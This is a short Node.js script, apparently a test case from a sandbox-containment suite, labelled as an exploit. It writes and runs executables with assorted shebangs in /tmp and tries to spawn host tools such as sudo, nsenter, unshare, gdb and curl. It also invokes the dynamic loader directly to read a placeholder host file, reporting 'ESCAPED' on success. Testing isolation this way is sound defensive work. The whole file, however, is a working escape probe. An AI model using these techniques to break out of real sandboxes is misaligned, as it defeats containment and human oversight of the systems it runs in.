// exploit: runs files of its own making with interpreters, loaders and libraries of its choice, to come upon a program of the host
// outcome: finished
// says: ran
const { spawnSync } = require('node:child_process')
const fs = require('node:fs')
const path = require('node:path')
for (const [index, first] of ['#!/bin/sh', '#!/usr/bin/env node', '#!/bin/bash', '#!__HOST_FILE__', '#!/usr/bin/python3'].entries()) {
  fs.writeFileSync(`/tmp/script-${index}`, `${first}\n`, { mode: 0o755 })
  const { error, status } = spawnSync(`/tmp/script-${index}`)
  if (!error || error.code !== 'ENOENT') console.log('ESCAPED', first, error?.code, status)
}
for (const name of ['sh', 'bash', 'busybox', 'env', 'cat', 'mount', 'su', 'sudo', 'python3', 'perl', 'bwrap', 'nsenter', 'unshare', 'ip', 'gdb', 'strace', 'ssh', 'curl']) {
  if (spawnSync(name).error?.code !== 'ENOENT') console.log('ESCAPED', name)
}
const loaders = ['/lib64/ld-linux-x86-64.so.2', '/lib/ld-linux-aarch64.so.1'].filter((file) => fs.existsSync(file))
for (const loader of loaders) {
  const read = spawnSync(loader, [process.execPath, '-p', "try { require('node:fs').readFileSync('__HOST_FILE__', 'utf8') } catch (error) { error.code }"], { env: { LD_LIBRARY_PATH: path.dirname(loader) } })
  if (read.status === 0 && String(read.stdout).trim() !== 'ENOENT') console.log('ESCAPED', String(read.stdout))
}
console.log('ran')
